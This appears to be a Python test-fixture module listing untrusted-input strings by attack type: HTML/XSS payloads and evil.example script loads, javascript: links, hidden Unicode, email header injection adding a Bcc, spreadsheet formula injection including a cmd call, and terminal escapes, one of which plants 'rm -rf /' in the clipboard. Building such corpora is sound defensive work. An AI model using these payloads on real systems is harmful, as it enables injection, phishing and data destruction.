"""Text that strangers may plant, by what it tries; every face of ours is shown the same tables.

Take what your face prints: a page and an email MARKUP, LINKS and HIDDEN, a header HEADERS, a
sheet FORMULAS, a terminal TERMINAL. SHOWN is what concerns a page, ALL is everything.
"""

# Tries to become markup, or to run. Forty-odd forms of it.
MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=//evil.example/x.js></script>",
    "<script",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example/'>x</a>",
    "<a href=//evil.example>x</a>",
    "<form action=//evil.example><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "</style><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<table background=https://evil.example/x>",
    "</td></tr></table></div></body></html><script>alert(1)</script>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "{{ 7 * 7 }}{% for x in () %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\ufe64script\ufe65alert(1)\uff1cscript\uff1e",
)
# Tries to be somewhere to go.
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "https://evil.example/login",
    "//evil.example/login",
    "www.evil.example",
    "evil.example",
    "x@evil.example",
)
# Tries to be unseen, to reorder what stands beside it, or to break what shows it.
HIDDEN = (
    "\u202etxt.exe\u202c\u2066\u2069",
    "\u200b\u200c\u200d\ufeff\u2060",
    "Ro\u00adsa \u2067\u05e8\u2069 \u061c",
    "\u3164\u115f\u2800\U000e0041",
    "\x00\x1b[31mred\x1b[0m\x07",
    "\ud800",
    "a" * 5000,
    "\U0001f469\u200d\U0001f3eb" * 400,
)
# Tries to be a header, a recipient or a part of its own; Python 3.11 lets encoded words through.
HEADERS = (
    "Hello\r\nBcc: mallory@evil.example",
    "Hello\nBcc: mallory@evil.example",
    "Hello\rBcc: mallory@evil.example",
    "Hello\r\n Bcc: mallory@evil.example",
    "Hello\r\n\r\n<script>alert(1)</script>",
    "Hello\n\n--=_boundary\nContent-Type: text/html",
    "Hello\x0bBcc: mallory@evil.example",
    "Hello\x0cBcc: mallory@evil.example",
    "Hello\x1c\x1d\x1eBcc: mallory@evil.example",
    "Hello\x85Bcc: mallory@evil.example",
    "Hello\u2028Bcc: mallory@evil.example",
    "Hello\u2029Bcc: mallory@evil.example",
    "Hello\x00\r\nBcc: mallory@evil.example",
    "=?utf-8?q?Hello=0D=0ABcc=3A_mallory=40evil=2Eexample?=",
    "=?UTF-8?Q?Hello=0ABcc=3A_mallory=40evil=2Eexample?=",
    "=?utf-8?b?SGVsbG8NCkJjYzogbWFsbG9yeUBldmlsLmV4YW1wbGU=?=",
    "=?utf-7?q?Hello+AA0ACg-Bcc:?=",
    "==??utf-8?q?Hello=0D=0ABcc=3A_mallory=40evil=2Eexample?=",
    "=\u200b?utf-8?q?Hello=0D=0ABcc=3A_mallory=40evil=2Eexample?=",
    "=?utf-8?q?a?= =?utf-8?q?=0D=0ABcc=3A_mallory=40evil=2Eexample?=",
    "line\r\nBcc: x@evil.example\r\n\r\n.\r\nQUIT",
    "Subject: another\r\nSubject: one",
    "\ud800\r\nBcc: mallory@evil.example",
    "\x1b[31mHello\x1b[0m \u202emoc",
)
# Tries to be computed by whatever opens a sheet.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","Open")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    '",=1+1',
    "Rosa\n=1+1",
    "Rosa;=1+1",
)
# Tries to be obeyed by a terminal.
TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred",
    "\x08\x08\x08hidden",
    "first\rsecond",
    "first\x1b[1Asecond",
    "\x7f\x00",
)
SHOWN = (*MARKUP, *LINKS, *HIDDEN)
ALL = (*SHOWN, *HEADERS, *FORMULAS, *TERMINAL)
